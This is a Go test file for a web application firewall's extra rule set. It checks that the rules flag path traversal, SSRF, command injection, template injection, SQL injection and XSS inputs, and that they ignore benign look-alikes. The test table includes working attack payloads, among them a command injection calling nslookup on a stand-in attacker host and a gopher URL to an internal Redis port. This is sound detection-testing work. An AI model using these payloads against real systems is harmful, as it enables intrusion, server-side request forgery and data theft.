package waf_test

import (
	"net/netip"
	"net/url"
	"slices"
	"testing"

	"haechi/internal/inspect/waf"
)

// asked is a GET whose parameter q is the value.
func asked(value string) *waf.View {
	v := &waf.View{Client: netip.MustParseAddr("203.0.113.7"), Method: "GET", Target: "/find?q=" + url.QueryEscape(value), Protocol: "HTTP/1.1", Host: "shop.example"}
	for _, h := range [][2]string{{"Host", "shop.example"}, {"User-Agent", "Mozilla/5.0"}, {"Accept", "*/*"}} {
		v.Headers = append(v.Headers, waf.Field{Name: h[0], Value: h[1]})
	}
	return v
}

func extraIDs(t *testing.T, o *waf.Oracle, v *waf.View) (ids []int, score int) {
	t.Helper()
	var out waf.Result
	if err := o.Judge(v, &out); err != nil {
		t.Fatal(err)
	}
	for _, h := range out.Hits {
		if h.Rule >= 7700100 && h.Rule < 7700200 {
			ids = append(ids, h.Rule)
			if h.Score != 5 || h.Where == "" {
				t.Errorf("%d scores %d at %q", h.Rule, h.Score, h.Where)
			}
		}
	}
	return slices.Compact(ids), out.Score
}

func newExtra(t *testing.T) *waf.Oracle {
	t.Helper()
	return oracle(t, waf.Ruleset{Extra: true})
}

// TestExtraRulesFire: what each rule is for, as the value of a parameter.
func TestExtraRulesFire(t *testing.T) {
	o := newExtra(t)
	for value, want := range map[string]int{
		"..\xc0\xaf..\xc0\xafetc":                    7700100,
		"\xc0\xae\xc0\xae/\xc0\xae\xc0\xae/etc":      7700100,
		"\xe0\x80\xae\xe0\x80\xae/\xe0\x80\xae./etc": 0, // half of it is plain
		"....//....//....//etc":                      7700101,
		`....\\....\\boot`:                           7700101,
		"gopher://10.0.0.5:6379/_INFO":               7700110,
		"file:///srv/app/settings":                   7700110,
		"jar:http://a.example/x.jar!/":               7700110,
		"http://2130706433/":                         7700111,
		"http://0x7f000001/admin":                    7700111,
		"http://0177.0.0.1/":                         7700111,
		"http://127.1:8080/":                         7700111,
		"http://[::1]/":                              7700111,
		"http://[::ffff:10.0.0.1]/":                  7700111,
		"x;cat$IFS$9/srv/key":                        7700120,
		"x|{cat,/srv/key}":                           7700120,
		"10.0.0.1;ping -c 5 10.9.9.9":                7700121,
		"a\nsleep 10":                                7700121,
		"a|nslookup x.attacker.example":              7700121,
		"{{7*7}}":                                    7700130,
		"<%= 7*7 %>":                                 7700130,
		"#{7*7}":                                     7700130,
		"{{ ''.__class__.__mro__ }}":                 7700130,
		"PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==":       7700150, // <script>alert(1)</script>
	} {
		ids, _ := extraIDs(t, o, asked(value))
		if want == 0 && len(ids) > 0 || want != 0 && !slices.Contains(ids, want) {
			t.Errorf("%q: %v, want %d", value, ids, want)
		}
	}
}

// TestExtraRulesInHeadersAndPath: where the Core Rule Set looks from paranoia 2 on.
func TestExtraRulesInHeadersAndPath(t *testing.T) {
	o := newExtra(t)
	for field, want := range map[waf.Field]int{
		{Name: "X-Forwarded-For", Value: "1' or '1'='1' -- "}:               7700140,
		{Name: "Client-IP", Value: "1 union select password from users"}:    7700140,
		{Name: "Referer", Value: "https://a.example/<svg onload=alert(1)>"}: 7700141,
	} {
		v := asked("shoes")
		v.Headers = append(v.Headers, field)
		if ids, _ := extraIDs(t, o, v); !slices.Contains(ids, want) {
			t.Errorf("%v: %v, want %d", field, ids, want)
		}
	}
	for target, want := range map[string]int{
		"/items/1%27%20or%20%271%27=%271":    7700140,
		"/items/%3Csvg%20onload=alert(1)%3E": 7700141,
	} {
		v := asked("shoes")
		v.Target = target
		if ids, _ := extraIDs(t, o, v); !slices.Contains(ids, want) {
			t.Errorf("%s: %v, want %d", target, ids, want)
		}
	}
}

// TestExtraRulesAreSilent about what people and programs write.
func TestExtraRulesAreSilent(t *testing.T) {
	o := newExtra(t)
	for _, value := range []string{
		"red shoes", "안녕하세요.. 반갑습니다..", "\xc0\xaf\xc0\xfa..\xc0\xaf\xb8\xae/", "....", "wait....// what", "http://10.0.0.7:8080/hook", "https://shop.example/?id=2130706433",
		"https://1password.com/", "https://9gag.com", "https://0x.org/", "file: report.pdf", "profile://me", "{id,name,price}", "{{user.name}}, welcome", "100 * 2 (50%)", "<% of all>",
		"I eat; sleep 8 hours; code", "Tips:\ncurl https://example.com/install.sh\nthen run it", "Line\nfile:///home is a URL", "ping -c 3 example.com", "O'Brien -- the writer",
		"SGVsbG8gd29ybGQsIHRoaXMgaXMgYSB0ZXN0", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.AAAA", "C:\\Users\\kim\\..\\file", "price: ${amount}", "a | b; c & d", "#{title}",
	} {
		if ids, _ := extraIDs(t, o, asked(value)); len(ids) > 0 {
			t.Errorf("%q: %v", value, ids)
		}
	}
	for _, field := range []waf.Field{
		{Name: "X-Forwarded-For", Value: "203.0.113.9, 2001:db8::7"}, {Name: "Origin", Value: "https://shop.example"},
		{Name: "Referer", Value: "https://www.google.com/search?q=a+%3C+b+and+c+%3E+d"}, {Name: "X-Forwarded-Host", Value: "shop.example:8443"},
	} {
		v := asked("shoes")
		v.Headers = append(v.Headers, field)
		if ids, _ := extraIDs(t, o, v); len(ids) > 0 {
			t.Errorf("%v: %v", field, ids)
		}
	}
	for _, target := range []string{"/l'oreal--paris", "/select-your-union", "/a/*.css", "/O%27Brien/1", "/%3Cid%3E"} {
		v := asked("shoes")
		v.Target = target
		if ids, _ := extraIDs(t, o, v); len(ids) > 0 {
			t.Errorf("%s: %v", target, ids)
		}
	}
}
